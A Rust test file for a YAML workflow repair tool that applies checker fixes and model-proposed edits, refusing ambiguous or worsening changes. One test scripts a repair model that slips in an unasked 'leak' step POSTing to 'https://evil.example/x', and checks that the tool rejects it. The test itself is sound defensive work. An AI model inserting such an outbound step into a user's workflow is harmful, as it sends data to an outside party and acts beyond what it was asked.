//! Broken texts that are mended: by the checker's own fixes, and by a written model for what is left. Bytes that no fix needs stay.
#![allow(clippy::unwrap_used)]

#[path = "support/pages.rs"]
mod pages;
#[path = "support/written.rs"]
mod written;

use generate::draft::{Answer, Kind};
use generate::index::Library;
use generate::model::REPAIRS;
use generate::plan::Means;
use generate::repair::{repair, repair_with};
use generate::when::Here;
use serde_json::{Value, json};
use written::{Written, now};

/// Two typing errors, one behind the other: the second comes to light when the first is mended.
const TYPED: &str = "name: x   # its name\r\nsteps:\r\n  a:   { set : { count: 1 } }  # one\r\noutput: '{{ stesp.a.cuont }}'\r\n\r\n";

/// An error that needs a choice: nothing says which step is meant.
const CHOICE: &str = "name: x\nsteps:\n  a: { set: { count: 1 } } # one\n  b: { set: { n: \"{{ steps.whatever.n }}\" } }\noutput: \"{{ steps.a.count + steps.b.n }}\"\n";

fn mended(text: &str, model: Option<&Written>) -> (Answer, usize) {
    let catalog = pages::catalog();
    let library = Library::new(&catalog);
    let here = Here::new("2026-01-05T07:30:00Z".parse().unwrap(), "Europe/Berlin").unwrap();
    let means = Means { catalog: &catalog, library: &library, connected: &[], here: &here, answers: &[] };
    match model {
        None => (repair(text, &means), 0),
        Some(model) => {
            let (answer, took) = now(repair_with(text, &means, model));
            (answer, took.rounds)
        }
    }
}

fn patches(edits: &[(&str, &str)]) -> Value {
    let edits: Vec<Value> = edits.iter().map(|(old, new)| json!({ "old": old, "new": new })).collect();
    json!({ "kind": "edit", "edits": edits, "question": null, "choices": [], "reason": null, "assumptions": [] })
}

fn errors(answer: &Answer) -> u64 {
    answer.left.as_ref().unwrap()["errors"].as_u64().unwrap()
}

#[test]
fn the_fixes_of_the_checker_are_applied_in_rounds_and_no_other_byte_moves() {
    let (answer, _) = mended(TYPED, None);
    assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
    assert_eq!(answer.yaml.as_deref(), Some(&*TYPED.replace("stesp", "steps").replace("cuont", "count")));
    let applied = answer.applied.clone().unwrap();
    assert_eq!(applied.len(), 2, "{applied:?}");
    assert!(applied.iter().all(|fix| fix["by"] == "checker" && fix["line"] == 4));
    assert_eq!(errors(&answer), 0);
}

#[test]
fn what_needs_a_choice_is_left_and_told() {
    let (answer, _) = mended(CHOICE, None);
    assert_eq!((answer.kind, errors(&answer)), (Kind::Refusal, 1), "{answer:?}");
    assert!(answer.reason.unwrap().contains("line 4"));
    assert_eq!(answer.yaml, None, "nothing of it was changed");
}

#[test]
fn a_text_without_errors_stays_as_it_is() {
    let right = "name: x\nsteps: { a: { set: { n: 1 } } }\noutput: { a: \"{{ steps.a }}\" }\n";
    let (answer, rounds) = mended(right, Some(&Written::new(&[patches(&[("n: 1", "n: 2")])])));
    assert_eq!((answer.kind, answer.yaml.as_deref(), rounds), (Kind::Draft, Some(right), 0));
}

#[test]
fn a_model_mends_what_is_left_by_words_that_it_names() {
    let model = Written::new(&[patches(&[("steps.whatever.n", "steps.a.count")])]);
    let (answer, rounds) = mended(CHOICE, Some(&model));
    assert_eq!((answer.kind, rounds), (Kind::Draft, 1), "{answer:?}");
    assert_eq!(answer.yaml.as_deref(), Some(&*CHOICE.replace("steps.whatever.n", "steps.a.count")));
    assert_eq!(answer.applied.unwrap()[0]["by"], "model");
    let asked = model.asked();
    assert!(asked[0].1.contains("steps.whatever") && asked[0].1.contains("line 4"), "{}", asked[0].1);
}

#[test]
fn a_model_that_never_mends_it_is_asked_three_times_and_what_makes_it_worse_is_not_taken() {
    let worse = patches(&[("{ set: { count: 1 } }", "{ sets: { count: \"{{ steps.nobody }}\" } }")]);
    let model = Written::new(&vec![worse; 10]);
    let (answer, rounds) = mended(CHOICE, Some(&model));
    assert_eq!((answer.kind, rounds, errors(&answer)), (Kind::Refusal, REPAIRS, 1), "{answer:?}");
    assert_eq!(answer.yaml, None);
}

#[test]
fn a_model_that_would_act_unasked_is_not_taken_and_what_the_author_wrote_is() {
    let evil =
        "n: 1 } }\n  leak: { http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } } }";
    let model = Written::new(&[patches(&[("n: \"{{ steps.whatever.n }}\" } }", evil)])]);
    let (answer, _) = mended(CHOICE, Some(&model));
    assert_eq!((answer.kind, answer.yaml), (Kind::Refusal, None));
    assert!(answer.assumptions[0].contains("evil.example"), "{:?}", answer.assumptions);
    // The control: a step that acts and that its author wrote, with a typing error, is mended.
    let own = "name: x\nsteps:\n  send: { http: { method: POST, url: \"https://own.example/x\", jsn: { a: 1 } } }\n";
    let (answer, _) = mended(own, None);
    assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
    let model = Written::new(&[patches(&[("whatever", "a")])]);
    let asks = own
        .replace("jsn: { a: 1 }", "json: { a: \"{{ steps.whatever }}\" }")
        .replace("steps:\n", "steps:\n  a: { set: { n: 1 } }\n");
    let (answer, _) = mended(&asks, Some(&model));
    assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
}

#[test]
fn without_a_key_that_is_said() {
    let (answer, rounds) = mended(CHOICE, Some(&Written::new(&[])));
    assert_eq!((answer.kind, rounds), (Kind::Refusal, 0));
    assert!(answer.assumptions[0].contains("no key"), "{:?}", answer.assumptions);
}
